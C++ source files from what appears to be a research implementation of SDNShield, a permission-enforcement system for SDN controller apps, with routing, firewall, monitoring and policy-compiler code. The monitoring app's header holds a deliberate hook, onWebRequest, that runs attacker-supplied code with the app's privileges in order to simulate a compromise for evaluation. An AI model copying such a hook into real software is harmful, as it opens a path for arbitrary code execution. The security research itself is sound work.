  auto topologyResponse = context_->api().readTopology();
  if (!topologyResponse.ok()) {
    processed_.fetch_add(1);
    return;
  }
  const net::Topology& topology = topologyResponse.value();

  // Refresh IP-pair routing rules along the (possibly changed) best paths.
  for (const auto& [srcIp, dstIp, hops] : decodeCostMap(event.payload)) {
    (void)hops;
    auto src = topology.hostByIp(srcIp);
    auto dst = topology.hostByIp(dstIp);
    if (!src || !dst) continue;
    of::FlowMatch match;
    match.ethType = static_cast<std::uint16_t>(of::EtherType::kIpv4);
    match.ipSrc = of::MaskedIpv4{srcIp};
    match.ipDst = of::MaskedIpv4{dstIp};
    auto mods = ctrl::buildPathFlowMods(topology, *src, *dst, match, priority_);
    if (!mods) continue;
    // Path rules are semantically one unit: install transactionally.
    if (context_->api().commitFlowTransaction(*mods).ok()) {
      installed_.fetch_add(mods->size());
    }
  }
  processed_.fetch_add(1);
}

}  // namespace sdnshield::apps
