#include "apps/routing.h"

#include "controller/services.h"

namespace sdnshield::apps {

std::string ShortestPathRoutingApp::requestedManifest() const {
  // Scenario 2's grant, plus the packet-in subscription reactive routing
  // needs in practice.
  return "APP routing\n"
         "PERM visible_topology\n"
         "PERM pkt_in_event\n"
         "PERM flow_event\n"
         "PERM send_pkt_out LIMITING FROM_PKT_IN\n"
         "PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS\n";
}

void ShortestPathRoutingApp::init(ctrl::AppContext& context) {
  context_ = &context;
  context.subscribePacketIn(
      [this](const ctrl::PacketInEvent& event) { onPacketIn(event); });
}

void ShortestPathRoutingApp::onPacketIn(const ctrl::PacketInEvent& event) {
  const of::PacketIn& packetIn = event.packetIn;
  of::HeaderFields fields = packetIn.packet.fields(packetIn.inPort);
  if (!fields.ipDst) {
    // Non-IP (and non-ARP) traffic: flood and move on.
    of::PacketOut out;
    out.dpid = packetIn.dpid;
    out.inPort = packetIn.inPort;
    out.packet = packetIn.packet;
    out.fromPacketIn = true;
    out.actions.push_back(of::OutputAction{of::ports::kFlood});
    context_->api().sendPacketOut(out);
    return;
  }

  auto topologyResponse = context_->api().readTopology();
  if (!topologyResponse.ok()) return;
  const net::Topology& topology = topologyResponse.value();
  std::optional<net::Host> dst = topology.hostByIp(*fields.ipDst);
  std::optional<net::Host> src;
  if (fields.ipSrc) src = topology.hostByIp(*fields.ipSrc);

  if (!dst || !src) {
    of::PacketOut out;
    out.dpid = packetIn.dpid;
    out.inPort = packetIn.inPort;
    out.packet = packetIn.packet;
    out.fromPacketIn = true;
    out.actions.push_back(of::OutputAction{of::ports::kFlood});
    context_->api().sendPacketOut(out);
    return;
  }

  // Destination-based /32 rules along the shortest path, as one transaction.
  of::FlowMatch match;
  match.ethType = fields.ethType;
  match.ipDst = of::MaskedIpv4{*fields.ipDst};
  auto mods = ctrl::buildPathFlowMods(topology, *src, *dst, match, priority_);
  if (!mods) return;
  if (context_->api().commitFlowTransaction(*mods).ok()) {
    paths_.fetch_add(1);
  }

  // Release the triggering packet along the freshly installed path: the
  // first-hop rule's output port is where it should go.
  of::PortNo releasePort = of::ports::kFlood;
  if (!(*mods)[0].second.actions.empty()) {
    if (const auto* firstOut = std::get_if<of::OutputAction>(
            &(*mods)[0].second.actions.front())) {
      releasePort = firstOut->port;
    }
  }
  of::PacketOut out;
  out.dpid = packetIn.dpid;
  out.inPort = packetIn.inPort;
  out.packet = packetIn.packet;
  out.fromPacketIn = true;
  out.actions.push_back(of::OutputAction{releasePort});
  context_->api().sendPacketOut(out);
}

}  // namespace sdnshield::apps
