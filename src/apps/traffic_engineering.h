// Traffic engineering app (second evaluation scenario, §IX-A): listens to
// the ALTO app's cost-map events and reacts with flow-mods that refresh the
// routing paths for host pairs.
#pragma once

#include <atomic>
#include <string>

#include "controller/api.h"

namespace sdnshield::apps {

class TrafficEngineeringApp final : public ctrl::App {
 public:
  explicit TrafficEngineeringApp(std::uint16_t rulePriority = 20)
      : priority_(rulePriority) {}

  std::string name() const override { return "traffic_engineering"; }
  std::string requestedManifest() const override;
  void init(ctrl::AppContext& context) override;

  std::uint64_t updatesProcessed() const { return processed_.load(); }
  std::uint64_t rulesInstalled() const { return installed_.load(); }

 private:
  void onCostMap(const ctrl::DataUpdateEvent& event);

  ctrl::AppContext* context_ = nullptr;
  std::uint16_t priority_;
  std::atomic<std::uint64_t> processed_{0};
  std::atomic<std::uint64_t> installed_{0};
};

}  // namespace sdnshield::apps
