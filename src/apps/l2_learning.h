// L2 learning switch (the paper's first evaluation scenario, §IX-A): learns
// host positions from packet-in source MACs and installs exact-match
// switching rules; unknown destinations are flooded.
//
// Two northbound styles, selected at construction:
//  * pipelineWindow == 0 — classic synchronous calls: each packet-in blocks
//    the app thread for a full deputy round-trip (insertFlow, then
//    sendPacketOut).
//  * pipelineWindow > 0 — asynchronous pipelining: the handler issues
//    insertFlowAsync/sendPacketOutAsync and keeps up to pipelineWindow
//    responses outstanding, reaping the oldest future once the window is
//    full. The app thread stays busy admitting new packet-ins while the
//    deputy pool works the backlog (§VI: choke points are not serialized
//    points).
#pragma once

#include <deque>
#include <map>
#include <mutex>

#include "controller/api.h"

namespace sdnshield::apps {

class L2LearningSwitch final : public ctrl::App {
 public:
  explicit L2LearningSwitch(std::uint16_t rulePriority = 10,
                            std::size_t pipelineWindow = 0)
      : priority_(rulePriority), pipelineWindow_(pipelineWindow) {}

  std::string name() const override { return "l2_learning"; }
  std::string requestedManifest() const override;
  void init(ctrl::AppContext& context) override;

  std::uint64_t packetsSeen() const;
  std::uint64_t rulesInstalled() const;

  /// Blocks until every outstanding async call has resolved (no-op in
  /// synchronous mode). Call before reading rulesInstalled() in tests.
  void drainPending();

 private:
  struct Pending {
    ctrl::ApiFuture<ctrl::ApiResult> future;
    bool countsRule = false;
  };

  void onPacketIn(const ctrl::PacketInEvent& event);
  /// Enqueues an in-flight call, reaping the oldest when the window is full.
  void track(ctrl::ApiFuture<ctrl::ApiResult> future, bool countsRule);
  void reap(Pending pending);

  ctrl::AppContext* context_ = nullptr;
  std::uint16_t priority_;
  std::size_t pipelineWindow_;
  mutable std::mutex mutex_;
  // Per-switch MAC -> port learning table.
  std::map<of::DatapathId, std::map<of::MacAddress, of::PortNo>> learned_;
  std::deque<Pending> pending_;
  std::uint64_t packetsSeen_ = 0;
  std::uint64_t rulesInstalled_ = 0;
};

}  // namespace sdnshield::apps
