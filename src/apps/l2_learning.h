// L2 learning switch (the paper's first evaluation scenario, §IX-A): learns
// host positions from packet-in source MACs and installs exact-match
// switching rules; unknown destinations are flooded.
#pragma once

#include <map>
#include <mutex>

#include "controller/api.h"

namespace sdnshield::apps {

class L2LearningSwitch final : public ctrl::App {
 public:
  explicit L2LearningSwitch(std::uint16_t rulePriority = 10)
      : priority_(rulePriority) {}

  std::string name() const override { return "l2_learning"; }
  std::string requestedManifest() const override;
  void init(ctrl::AppContext& context) override;

  std::uint64_t packetsSeen() const;
  std::uint64_t rulesInstalled() const;

 private:
  void onPacketIn(const ctrl::PacketInEvent& event);

  ctrl::AppContext* context_ = nullptr;
  std::uint16_t priority_;
  mutable std::mutex mutex_;
  // Per-switch MAC -> port learning table.
  std::map<of::DatapathId, std::map<of::MacAddress, of::PortNo>> learned_;
  std::uint64_t packetsSeen_ = 0;
  std::uint64_t rulesInstalled_ = 0;
};

}  // namespace sdnshield::apps
