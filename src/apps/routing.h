// Shortest-path routing app (paper §VII, Scenario 2's benign behaviour):
// reactively routes IPv4/ARP traffic along shortest paths, installing the
// per-hop rules transactionally.
#pragma once

#include <atomic>
#include <string>

#include "controller/api.h"

namespace sdnshield::apps {

class ShortestPathRoutingApp final : public ctrl::App {
 public:
  explicit ShortestPathRoutingApp(std::uint16_t rulePriority = 10)
      : priority_(rulePriority) {}

  std::string name() const override { return "routing"; }
  std::string requestedManifest() const override;
  void init(ctrl::AppContext& context) override;

  std::uint64_t pathsInstalled() const { return paths_.load(); }

 private:
  void onPacketIn(const ctrl::PacketInEvent& event);

  ctrl::AppContext* context_ = nullptr;
  std::uint16_t priority_;
  std::atomic<std::uint64_t> paths_{0};
};

}  // namespace sdnshield::apps
