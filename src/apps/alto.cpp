#include "apps/alto.h"

#include <sstream>

namespace sdnshield::apps {

std::string AltoService::requestedManifest() const {
  return "APP alto\n"
         "PERM visible_topology\n"
         "PERM topology_event\n"
         "PERM read_statistics LIMITING PORT_LEVEL OR SWITCH_LEVEL\n"
         "PERM modify_topology\n";  // Data-model publication.
}

void AltoService::init(ctrl::AppContext& context) {
  context_ = &context;
  // Keep the cost map fresh as the topology changes.
  context.subscribeTopologyEvents(
      [this](const ctrl::TopologyEvent&) { publishUpdate(); });
}

bool AltoService::publishUpdate() {
  auto topologyResponse = context_->api().readTopology();
  if (!topologyResponse.ok()) return false;
  const net::Topology& topology = topologyResponse.value();

  std::vector<std::tuple<of::Ipv4Address, of::Ipv4Address, int>> costMap;
  std::vector<net::Host> hosts = topology.hosts();
  for (const net::Host& src : hosts) {
    for (const net::Host& dst : hosts) {
      if (src.mac == dst.mac) continue;
      auto path = topology.shortestPath(src.dpid, dst.dpid);
      if (!path) continue;
      costMap.emplace_back(src.ip, dst.ip, static_cast<int>(path->size()));
    }
  }
  ctrl::ApiResult result =
      context_->api().publishData(kAltoCostMapTopic, encodeCostMap(costMap));
  if (result.ok()) published_.fetch_add(1);
  return result.ok();
}

std::string encodeCostMap(
    const std::vector<std::tuple<of::Ipv4Address, of::Ipv4Address, int>>& map) {
  std::ostringstream out;
  for (const auto& [src, dst, hops] : map) {
    out << src.toString() << "," << dst.toString() << "," << hops << ";";
  }
  return out.str();
}

std::vector<std::tuple<of::Ipv4Address, of::Ipv4Address, int>> decodeCostMap(
    const std::string& payload) {
  std::vector<std::tuple<of::Ipv4Address, of::Ipv4Address, int>> out;
  std::istringstream in(payload);
  std::string entry;
  while (std::getline(in, entry, ';')) {
    if (entry.empty()) continue;
    std::istringstream fields(entry);
    std::string src;
    std::string dst;
    std::string hops;
    if (!std::getline(fields, src, ',') || !std::getline(fields, dst, ',') ||
        !std::getline(fields, hops, ',')) {
      continue;
    }
    try {
      out.emplace_back(of::Ipv4Address::parse(src), of::Ipv4Address::parse(dst),
                       std::stoi(hops));
    } catch (const std::exception&) {
      continue;  // Skip malformed entries.
    }
  }
  return out;
}

}  // namespace sdnshield::apps
