// Monitoring app (paper §VII, Scenario 1): supervises a tenant's network
// usage, reporting topology and statistics to an administrator-run collector
// over the controller host's network. Carries a deliberate "vulnerability"
// hook that executes attacker-supplied code in the app's context, modelling
// the arbitrary-code-execution compromise the scenario assumes.
#pragma once

#include <functional>
#include <string>

#include "controller/api.h"

namespace sdnshield::apps {

class MonitoringApp final : public ctrl::App {
 public:
  explicit MonitoringApp(of::Ipv4Address collectorIp,
                         std::uint16_t collectorPort = 8080)
      : collectorIp_(collectorIp), collectorPort_(collectorPort) {}

  std::string name() const override { return "monitoring"; }

  /// The Scenario-1 manifest, verbatim: two stubs (LocalTopo, AdminRange)
  /// are left for the administrator, and the over-privileged insert_flow is
  /// what reconciliation truncates.
  std::string requestedManifest() const override;

  void init(ctrl::AppContext& context) override;

  /// Legitimate behaviour: reads topology + statistics and reports to the
  /// administrator's collector. Returns false if any step was denied.
  bool collectAndReport();

  /// The simulated vulnerability: runs attacker code with the app's
  /// privileges (callers arrange for execution on the app's thread).
  void onWebRequest(std::function<void(ctrl::AppContext&)> payload) {
    if (context_ != nullptr) payload(*context_);
  }

  ctrl::AppContext* context() { return context_; }

 private:
  of::Ipv4Address collectorIp_;
  std::uint16_t collectorPort_;
  ctrl::AppContext* context_ = nullptr;
};

}  // namespace sdnshield::apps
