// Firewall app: installs high-priority ACL drop rules at chokepoint
// switches. The victim of the Class-4 dynamic-flow-tunneling attack.
#pragma once

#include <atomic>
#include <string>

#include "controller/api.h"

namespace sdnshield::apps {

class FirewallApp final : public ctrl::App {
 public:
  explicit FirewallApp(std::uint16_t rulePriority = 100)
      : priority_(rulePriority) {}

  std::string name() const override { return "firewall"; }
  std::string requestedManifest() const override;
  void init(ctrl::AppContext& context) override;

  /// Installs "drop TCP traffic to @p tcpPort" at the given switch.
  bool blockTcpDstPort(of::DatapathId dpid, std::uint16_t tcpPort);

  /// Removes a previously installed block.
  bool unblockTcpDstPort(of::DatapathId dpid, std::uint16_t tcpPort);

  std::uint64_t rulesInstalled() const { return installed_.load(); }
  std::uint16_t priority() const { return priority_; }

 private:
  of::FlowMatch blockMatch(std::uint16_t tcpPort) const;

  ctrl::AppContext* context_ = nullptr;
  std::uint16_t priority_;
  std::atomic<std::uint64_t> installed_{0};
};

}  // namespace sdnshield::apps
