// Permission-checked installation of compiled high-level policies
// (paper §VI-C): the compiler's per-rule ownership information is fed to the
// SDNShield permission engine — every contributing app must be allowed to
// install the rule — and a rule some owner may not install is *partially
// denied*: skipped, while the rest of the classifier goes in.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "controller/controller.h"
#include "core/engine/permission_engine.h"
#include "hll/policy.h"

namespace sdnshield::hll {

struct InstallReport {
  std::size_t installed = 0;
  /// Indexes (into the compiled classifier) of partially denied rules, with
  /// the owner and reason that blocked each.
  struct DeniedRule {
    std::size_t ruleIndex = 0;
    of::AppId owner = 0;
    std::string reason;
  };
  std::vector<DeniedRule> denied;

  bool fullyInstalled() const { return denied.empty(); }
};

/// Compiles @p policy and installs it on @p dpid with priorities descending
/// from @p topPriority. Each rule is checked once per owner (the compiler's
/// ownership tracking); ownerless rules (no `owned` annotation anywhere)
/// are attributed to the kernel and always pass.
InstallReport installPolicy(engine::PermissionEngine& engine,
                            ctrl::Controller& controller, of::DatapathId dpid,
                            const PolicyPtr& policy,
                            std::uint16_t topPriority);

/// Live re-installation after a permission change (market policy update):
/// strict-deletes the classifier's previous rules by (match, priority),
/// then reinstalls under the owners' *current* grants — rules an owner may
/// no longer install drop out as partial denials.
InstallReport reinstallPolicy(engine::PermissionEngine& engine,
                              ctrl::Controller& controller,
                              of::DatapathId dpid, const PolicyPtr& policy,
                              std::uint16_t topPriority);

}  // namespace sdnshield::hll
