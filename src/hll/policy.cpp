#include "hll/policy.h"

#include <algorithm>
#include <sstream>
#include <stdexcept>

namespace sdnshield::hll {

// --- policy tree -----------------------------------------------------------------

class Policy {
 public:
  enum class Kind { kMatch, kIdentity, kDrop, kFwd, kModify, kSeq, kPar, kOwned };

  Kind kind = Kind::kIdentity;
  of::FlowMatch match;
  of::PortNo port = 0;
  of::SetFieldAction rewrite;
  PolicyPtr a;
  PolicyPtr b;
  of::AppId owner = 0;
};

namespace {

PolicyPtr makeNode(Policy node) {
  return std::make_shared<const Policy>(std::move(node));
}

}  // namespace

PolicyPtr match(of::FlowMatch m) {
  Policy node;
  node.kind = Policy::Kind::kMatch;
  node.match = std::move(m);
  return makeNode(std::move(node));
}

PolicyPtr identity() {
  Policy node;
  node.kind = Policy::Kind::kIdentity;
  return makeNode(std::move(node));
}

PolicyPtr drop() {
  Policy node;
  node.kind = Policy::Kind::kDrop;
  return makeNode(std::move(node));
}

PolicyPtr fwd(of::PortNo port) {
  Policy node;
  node.kind = Policy::Kind::kFwd;
  node.port = port;
  return makeNode(std::move(node));
}

PolicyPtr modify(of::SetFieldAction rewrite) {
  Policy node;
  node.kind = Policy::Kind::kModify;
  node.rewrite = rewrite;
  return makeNode(std::move(node));
}

PolicyPtr seq(PolicyPtr a, PolicyPtr b) {
  if (!a || !b) throw std::invalid_argument("seq: null operand");
  Policy node;
  node.kind = Policy::Kind::kSeq;
  node.a = std::move(a);
  node.b = std::move(b);
  return makeNode(std::move(node));
}

PolicyPtr par(PolicyPtr a, PolicyPtr b) {
  if (!a || !b) throw std::invalid_argument("par: null operand");
  Policy node;
  node.kind = Policy::Kind::kPar;
  node.a = std::move(a);
  node.b = std::move(b);
  return makeNode(std::move(node));
}

PolicyPtr owned(of::AppId app, PolicyPtr p) {
  if (!p) throw std::invalid_argument("owned: null operand");
  Policy node;
  node.kind = Policy::Kind::kOwned;
  node.owner = app;
  node.a = std::move(p);
  return makeNode(std::move(node));
}

// --- compilation ------------------------------------------------------------------

namespace {

/// Internal classifier rule.
///  * emitActions — the interleaved rewrite/output sequence realised when
///    the rule fires (what the OF action list will contain);
///  * contSets — rewrites applied to the packet that *continues* into the
///    right-hand side of a sequential composition;
///  * pass — whether a continuing packet exists at all.
struct Rule {
  of::FlowMatch match;
  of::ActionList emitActions;
  std::vector<of::SetFieldAction> contSets;
  bool pass = false;
  /// Both parallel branches continued: a single OF rule cannot represent
  /// two continuations, so sequencing after this rule is rejected.
  bool dualPass = false;
  std::set<of::AppId> owners;
};

using Classifier = std::vector<Rule>;

bool emits(const Rule& rule) {
  return std::any_of(rule.emitActions.begin(), rule.emitActions.end(),
                     [](const of::Action& action) {
                       return std::holds_alternative<of::OutputAction>(action);
                     });
}

/// Does the rewritten value of @p set satisfy the constraint @p m places on
/// that field? Returns: satisfied (constraint can be erased), violated
/// (rules incompatible) or untouched (field not rewritten).
enum class PullbackVerdict { kErase, kIncompatible, kUntouched };

PullbackVerdict pullbackField(of::FlowMatch& m, const of::SetFieldAction& set) {
  auto exactCheck = [&](auto& field, auto value) {
    using FieldT = typename std::decay_t<decltype(field)>::value_type;
    if (!field) return PullbackVerdict::kErase;  // Unconstrained: fine.
    if (*field != static_cast<FieldT>(value)) {
      return PullbackVerdict::kIncompatible;
    }
    field.reset();
    return PullbackVerdict::kErase;
  };
  switch (set.field) {
    case of::MatchField::kEthSrc:
      return exactCheck(m.ethSrc, set.macValue);
    case of::MatchField::kEthDst:
      return exactCheck(m.ethDst, set.macValue);
    case of::MatchField::kTpSrc:
      return exactCheck(m.tpSrc, static_cast<std::uint16_t>(set.intValue));
    case of::MatchField::kTpDst:
      return exactCheck(m.tpDst, static_cast<std::uint16_t>(set.intValue));
    case of::MatchField::kIpSrc:
    case of::MatchField::kIpDst: {
      auto& field = set.field == of::MatchField::kIpSrc ? m.ipSrc : m.ipDst;
      if (!field) return PullbackVerdict::kErase;
      if (!field->matches(set.ipValue)) return PullbackVerdict::kIncompatible;
      field.reset();
      return PullbackVerdict::kErase;
    }
    default:
      return PullbackVerdict::kUntouched;
  }
}

/// Drops rules made unreachable by an earlier, wider rule.
Classifier pruneShadowed(Classifier rules) {
  Classifier out;
  for (Rule& rule : rules) {
    bool shadowed = std::any_of(out.begin(), out.end(), [&](const Rule& prior) {
      return prior.match.subsumes(rule.match);
    });
    if (!shadowed) out.push_back(std::move(rule));
  }
  return out;
}

Classifier compileRec(const PolicyPtr& policy) {
  switch (policy->kind) {
    case Policy::Kind::kMatch: {
      Rule hit;
      hit.match = policy->match;
      hit.pass = true;
      Rule miss;  // Catch-all drop keeps the classifier total.
      return pruneShadowed({hit, miss});
    }
    case Policy::Kind::kIdentity: {
      Rule all;
      all.pass = true;
      return {all};
    }
    case Policy::Kind::kDrop: {
      return {Rule{}};
    }
    case Policy::Kind::kFwd: {
      Rule all;
      all.emitActions.push_back(of::OutputAction{policy->port});
      return {all};
    }
    case Policy::Kind::kModify: {
      Rule all;
      all.contSets.push_back(policy->rewrite);
      all.pass = true;
      return {all};
    }
    case Policy::Kind::kSeq: {
      Classifier lhs = compileRec(policy->a);
      Classifier rhs = compileRec(policy->b);
      Classifier out;
      for (const Rule& ra : lhs) {
        if (emits(ra)) {
          throw std::invalid_argument(
              "seq: forwarding on the left of >> is not supported "
              "(emission is terminal)");
        }
        if (ra.dualPass) {
          throw std::invalid_argument(
              "seq: left operand has ambiguous parallel continuations");
        }
        if (!ra.pass) {
          out.push_back(ra);  // Dead branch: stays a drop.
          continue;
        }
        for (const Rule& rb : rhs) {
          // Pull rb's match back through ra's continuation rewrites.
          of::FlowMatch pulled = rb.match;
          bool compatible = true;
          for (const of::SetFieldAction& set : ra.contSets) {
            if (pullbackField(pulled, set) == PullbackVerdict::kIncompatible) {
              compatible = false;
              break;
            }
          }
          if (!compatible) continue;
          auto merged = ra.match.intersect(pulled);
          if (!merged) continue;
          Rule product;
          product.match = *merged;
          // The continuing packet carries ra's rewrites into rb's actions.
          for (const of::SetFieldAction& set : ra.contSets) {
            product.emitActions.push_back(set);
          }
          product.emitActions.insert(product.emitActions.end(),
                                     rb.emitActions.begin(),
                                     rb.emitActions.end());
          product.contSets = ra.contSets;
          product.contSets.insert(product.contSets.end(), rb.contSets.begin(),
                                  rb.contSets.end());
          product.pass = rb.pass;
          product.owners = ra.owners;
          product.owners.insert(rb.owners.begin(), rb.owners.end());
          out.push_back(std::move(product));
        }
      }
      return pruneShadowed(std::move(out));
    }
    case Policy::Kind::kPar: {
      Classifier lhs = compileRec(policy->a);
      Classifier rhs = compileRec(policy->b);
      Classifier out;
      // Row-major cross product preserves first-match semantics of both
      // operands (the first matching product pairs each operand's first
      // matching rule).
      for (const Rule& ra : lhs) {
        for (const Rule& rb : rhs) {
          auto merged = ra.match.intersect(rb.match);
          if (!merged) continue;
          Rule product;
          product.match = *merged;
          // Branch A's action sequence, then branch B's. In a single OF
          // action list, B's emissions see A's trailing rewrites unless B
          // overwrites them — the OF 1.0 approximation of packet copies.
          product.emitActions = ra.emitActions;
          product.emitActions.insert(product.emitActions.end(),
                                     rb.emitActions.begin(),
                                     rb.emitActions.end());
          product.contSets = ra.contSets;
          product.contSets.insert(product.contSets.end(), rb.contSets.begin(),
                                  rb.contSets.end());
          product.pass = ra.pass || rb.pass;
          product.dualPass =
              (ra.pass && rb.pass) || ra.dualPass || rb.dualPass;
          product.owners = ra.owners;
          product.owners.insert(rb.owners.begin(), rb.owners.end());
          out.push_back(std::move(product));
        }
      }
      return pruneShadowed(std::move(out));
    }
    case Policy::Kind::kOwned: {
      Classifier inner = compileRec(policy->a);
      for (Rule& rule : inner) rule.owners.insert(policy->owner);
      return inner;
    }
  }
  return {};
}

of::ActionList ruleActions(const Rule& rule) {
  // A surviving-but-never-emitted packet is observationally dropped: the
  // lowered rule keeps nothing.
  if (!emits(rule)) return {};
  return rule.emitActions;
}

of::Packet applyRewrite(of::Packet packet, const of::SetFieldAction& set) {
  switch (set.field) {
    case of::MatchField::kEthSrc:
      packet.eth.src = set.macValue;
      break;
    case of::MatchField::kEthDst:
      packet.eth.dst = set.macValue;
      break;
    case of::MatchField::kIpSrc:
      if (packet.ipv4) packet.ipv4->src = set.ipValue;
      break;
    case of::MatchField::kIpDst:
      if (packet.ipv4) packet.ipv4->dst = set.ipValue;
      break;
    case of::MatchField::kTpSrc:
      if (packet.tcp) {
        packet.tcp->srcPort = static_cast<std::uint16_t>(set.intValue);
      } else if (packet.udp) {
        packet.udp->srcPort = static_cast<std::uint16_t>(set.intValue);
      }
      break;
    case of::MatchField::kTpDst:
      if (packet.tcp) {
        packet.tcp->dstPort = static_cast<std::uint16_t>(set.intValue);
      } else if (packet.udp) {
        packet.udp->dstPort = static_cast<std::uint16_t>(set.intValue);
      }
      break;
    default:
      break;
  }
  return packet;
}

}  // namespace

std::string CompiledRule::toString() const {
  std::ostringstream out;
  out << match.toString() << " -> " << of::toString(actions) << " owners={";
  bool first = true;
  for (of::AppId owner : owners) {
    if (!first) out << ",";
    first = false;
    out << owner;
  }
  out << "}";
  return out.str();
}

std::vector<CompiledRule> compile(const PolicyPtr& policy) {
  if (!policy) throw std::invalid_argument("compile: null policy");
  Classifier internal = compileRec(policy);
  std::vector<CompiledRule> out;
  out.reserve(internal.size());
  for (const Rule& rule : internal) {
    out.push_back(CompiledRule{rule.match, ruleActions(rule), rule.owners});
  }
  return out;
}

std::vector<of::FlowMod> toFlowMods(const std::vector<CompiledRule>& rules,
                                    std::uint16_t topPriority) {
  if (rules.size() > topPriority) {
    throw std::invalid_argument("toFlowMods: not enough priority space");
  }
  std::vector<of::FlowMod> out;
  out.reserve(rules.size());
  std::uint16_t priority = topPriority;
  for (const CompiledRule& rule : rules) {
    of::FlowMod mod;
    mod.command = of::FlowModCommand::kAdd;
    mod.match = rule.match;
    mod.priority = priority--;
    mod.actions = rule.actions;
    if (mod.actions.empty()) mod.actions.push_back(of::DropAction{});
    out.push_back(std::move(mod));
  }
  return out;
}

// --- reference semantics --------------------------------------------------------------

namespace {

struct EvalResult {
  std::vector<LocatedPacket> continuations;
  std::vector<LocatedPacket> emissions;
};

EvalResult evalRec(const PolicyPtr& policy, const LocatedPacket& input) {
  switch (policy->kind) {
    case Policy::Kind::kMatch:
      if (policy->match.matches(input.packet.fields(input.port))) {
        return EvalResult{{input}, {}};
      }
      return {};
    case Policy::Kind::kIdentity:
      return EvalResult{{input}, {}};
    case Policy::Kind::kDrop:
      return {};
    case Policy::Kind::kFwd: {
      LocatedPacket out = input;
      out.port = policy->port;
      return EvalResult{{}, {out}};
    }
    case Policy::Kind::kModify: {
      LocatedPacket out = input;
      out.packet = applyRewrite(out.packet, policy->rewrite);
      return EvalResult{{out}, {}};
    }
    case Policy::Kind::kSeq: {
      EvalResult lhs = evalRec(policy->a, input);
      EvalResult out;
      out.emissions = lhs.emissions;
      for (const LocatedPacket& mid : lhs.continuations) {
        EvalResult rhs = evalRec(policy->b, mid);
        out.continuations.insert(out.continuations.end(),
                                 rhs.continuations.begin(),
                                 rhs.continuations.end());
        out.emissions.insert(out.emissions.end(), rhs.emissions.begin(),
                             rhs.emissions.end());
      }
      return out;
    }
    case Policy::Kind::kPar: {
      EvalResult lhs = evalRec(policy->a, input);
      EvalResult rhs = evalRec(policy->b, input);
      lhs.continuations.insert(lhs.continuations.end(),
                               rhs.continuations.begin(),
                               rhs.continuations.end());
      lhs.emissions.insert(lhs.emissions.end(), rhs.emissions.begin(),
                           rhs.emissions.end());
      return lhs;
    }
    case Policy::Kind::kOwned:
      return evalRec(policy->a, input);
  }
  return {};
}

}  // namespace

std::vector<LocatedPacket> evaluate(const PolicyPtr& policy,
                                    const LocatedPacket& input) {
  return evalRec(policy, input).emissions;
}

std::vector<LocatedPacket> runClassifier(const std::vector<CompiledRule>& rules,
                                         const LocatedPacket& input) {
  for (const CompiledRule& rule : rules) {
    if (!rule.match.matches(input.packet.fields(input.port))) continue;
    std::vector<LocatedPacket> emissions;
    of::Packet current = input.packet;
    for (const of::Action& action : rule.actions) {
      if (const auto* set = std::get_if<of::SetFieldAction>(&action)) {
        current = applyRewrite(current, *set);
      } else if (const auto* output = std::get_if<of::OutputAction>(&action)) {
        emissions.push_back(LocatedPacket{current, output->port});
      }
    }
    return emissions;  // First match wins.
  }
  return {};
}

}  // namespace sdnshield::hll
