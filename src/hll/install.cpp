#include "hll/install.h"

namespace sdnshield::hll {

InstallReport installPolicy(engine::PermissionEngine& engine,
                            ctrl::Controller& controller, of::DatapathId dpid,
                            const PolicyPtr& policy,
                            std::uint16_t topPriority) {
  std::vector<CompiledRule> rules = compile(policy);
  std::vector<of::FlowMod> mods = toFlowMods(rules, topPriority);

  InstallReport report;
  for (std::size_t i = 0; i < rules.size(); ++i) {
    const CompiledRule& rule = rules[i];
    // Every owner that contributed to this rule must be permitted to issue
    // it (§VI-C: "split the rule and feed them to the permission engine
    // respectively"). One blocked owner partially denies the rule.
    bool allowed = true;
    for (of::AppId owner : rule.owners) {
      perm::ApiCall call = perm::ApiCall::insertFlow(owner, dpid, mods[i]);
      call.ownFlow = !controller.ownership().overridesForeignFlow(
          owner, dpid, mods[i].match, mods[i].priority);
      call.ruleCountAfter = controller.ownership().countFor(owner, dpid) + 1;
      engine::Decision decision = engine.check(call);
      controller.audit().record(call, decision.allowed, decision.reason);
      if (!decision.allowed) {
        report.denied.push_back(
            InstallReport::DeniedRule{i, owner, decision.reason});
        allowed = false;
        break;
      }
    }
    if (!allowed) continue;
    // Attribute the installed rule to its first owner (the kernel when the
    // policy carries no ownership annotations at all).
    of::AppId issuer =
        rule.owners.empty() ? of::kKernelAppId : *rule.owners.begin();
    if (controller.kernelInsertFlow(issuer, dpid, mods[i]).ok()) {
      ++report.installed;
    }
  }
  return report;
}

InstallReport reinstallPolicy(engine::PermissionEngine& engine,
                              ctrl::Controller& controller,
                              of::DatapathId dpid, const PolicyPtr& policy,
                              std::uint16_t topPriority) {
  // Remove the classifier's previous incarnation first: strict deletes by
  // (match, priority) target exactly the rules a prior installPolicy of the
  // same policy laid down, attributed to the same issuer the install used.
  std::vector<CompiledRule> rules = compile(policy);
  std::vector<of::FlowMod> mods = toFlowMods(rules, topPriority);
  for (std::size_t i = 0; i < rules.size(); ++i) {
    of::AppId issuer = rules[i].owners.empty() ? of::kKernelAppId
                                               : *rules[i].owners.begin();
    controller.kernelDeleteFlow(issuer, dpid, mods[i].match, /*strict=*/true,
                                mods[i].priority);
  }
  // Then reinstall under the CURRENT grants — rules whose owners lost the
  // needed permissions since the first install come back partially denied.
  return installPolicy(engine, controller, dpid, policy, topPriority);
}

}  // namespace sdnshield::hll
