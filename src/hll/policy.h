// High-level SDN policy language (paper §VI-C): a Pyretic-flavoured
// composition algebra — match / modify / forward atoms composed with
// sequential (>>) and parallel (+) operators — that compiles to prioritized
// OpenFlow classifiers while tracking, per compiled rule, *which apps'
// policies contributed to it*. That ownership information is what lets
// SDNShield enforce permissions on compiler-generated rules, including the
// partial-denial extension (see hll/install.h).
#pragma once

#include <memory>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include "of/actions.h"
#include "of/flow_mod.h"
#include "of/match.h"
#include "of/packet.h"

namespace sdnshield::hll {

class Policy;
using PolicyPtr = std::shared_ptr<const Policy>;

// --- atoms --------------------------------------------------------------------
/// Passes packets matching @p m unchanged; drops the rest.
PolicyPtr match(of::FlowMatch m);
/// Passes every packet unchanged.
PolicyPtr identity();
/// Drops everything.
PolicyPtr drop();
/// Emits the (possibly rewritten) packet out @p port.
PolicyPtr fwd(of::PortNo port);
/// Rewrites a header field, then continues.
PolicyPtr modify(of::SetFieldAction rewrite);

// --- composition ----------------------------------------------------------------
